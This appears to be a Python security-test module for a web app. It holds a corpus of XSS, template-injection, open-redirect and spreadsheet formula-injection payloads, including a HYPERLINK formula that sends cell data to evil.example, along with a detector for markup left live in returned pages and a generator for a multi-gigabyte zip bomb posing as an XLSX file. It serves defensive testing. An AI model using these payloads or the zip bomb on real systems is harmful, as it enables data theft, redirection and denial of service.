"""The hostile input corpus and the checks that go with it.

``XSS`` is stored wherever a user can type text (names, unit names, question text and
feedback, notes, import cells); ``live_markup`` then parses the HTML a page returns and
lists every place where that text became markup a browser would run. ``FORMULAS`` are
cells a spreadsheet would evaluate; ``zip_bomb`` builds a small XLSX that inflates to
gigabytes, without ever holding the inflated bytes in memory.
"""

from __future__ import annotations

import struct
import zlib
from html.parser import HTMLParser

XSS = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    '\'><a href="javascript:alert(1)">klik</a>',
    "</textarea></title><script>alert(1)</script>",
    "{{7*7}}",
    "{% debug %}",
]
# The evaluated template payloads would show up as these.
TEMPLATE_RESULTS = ("49", "sql_queries")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]

OPEN_REDIRECTS = [
    "//evil.example",
    "https://evil.example",
    "https:evil.example",
    "http:/evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "%2F%2Fevil.example",
    "/%2F%2Fevil.example",
    "https%3A%2F%2Fevil.example",
    "///evil.example",
    " //evil.example",
    "javascript:alert(1)",
    "\t//evil.example",
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
_JS_TYPES = {"", "text/javascript", "application/javascript", "module"}


class _LiveMarkup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            self._in_script = (values.get("type") or "").lower() in _JS_TYPES
            if "evil" in (values.get("src") or "") or values.get("src") == "x":
                self.problems.append(f"<script src={values.get('src')!r}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and "alert" in value:
                self.problems.append(f"<{tag} {name}={value!r}>")
            compact = "".join(value.split()).lower()
            if name in _URL_ATTRIBUTES and compact.startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(1)" in data:
            self.problems.append(f"<script>{data.strip()[:60]}</script>")


def live_markup(html: str | bytes) -> list[str]:
    """Script elements, ``on*`` handlers and ``javascript:`` URLs that came from the corpus."""
    if isinstance(html, bytes):
        html = html.decode("utf-8", errors="replace")
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.problems


def text_of(html: str | bytes) -> str:
    """The visible text of a page (what a reader sees, entities decoded)."""
    if isinstance(html, bytes):
        html = html.decode("utf-8", errors="replace")
    chunks: list[str] = []

    class _Text(HTMLParser):
        def handle_data(self, data):
            chunks.append(data)

    parser = _Text(convert_charrefs=True)
    parser.feed(html)
    return "".join(chunks)


# --- uploads --------------------------------------------------------------------------


def _deflate_zeros(total: int, chunk: int = 1 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes and its CRC-32, built from one chunk.

    A full flush makes each compressed chunk independent of what came before, so the same
    bytes can be repeated: a gigabyte of zeros costs a few hundred compressed kilobytes.
    """
    zeros = bytes(chunk)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = total // chunk
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    return block * count + final, crc


def zip_bomb(
    *, inflated: int = 2 << 30, declared: int | None = None, member="xl/worksheets/sheet1.xml"
) -> bytes:
    """A zip whose one member inflates to ``inflated`` bytes (2 GiB by default).

    ``declared`` lets the central directory lie about the size, as a crafted bomb would.
    """
    data, crc = _deflate_zeros(inflated)
    size = inflated if declared is None else declared
    name = member.encode()
    zip64 = size >= 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, size, len(data)) if zip64 else b""
    size32 = 0xFFFFFFFF if zip64 else size
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            45,
            0,
            8,
            0,
            0x21,
            crc,
            0xFFFFFFFF if zip64 else len(data),
            size32,
            len(name),
            len(extra),
        )
        + name
        + extra
    )
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            45,
            45,
            0,
            8,
            0,
            0x21,
            crc,
            0xFFFFFFFF if zip64 else len(data),
            size32,
            len(name),
            len(extra),
            0,
            0,
            0,
            0,
            0,
        )
        + name
        + extra
    )
    offset = len(local) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), offset, 0)
    return local + data + central + end


def many_fields(count: int = 10_000) -> str:
    """A urlencoded body with ``count`` fields."""
    return "&".join(f"f{i}=x" for i in range(count))
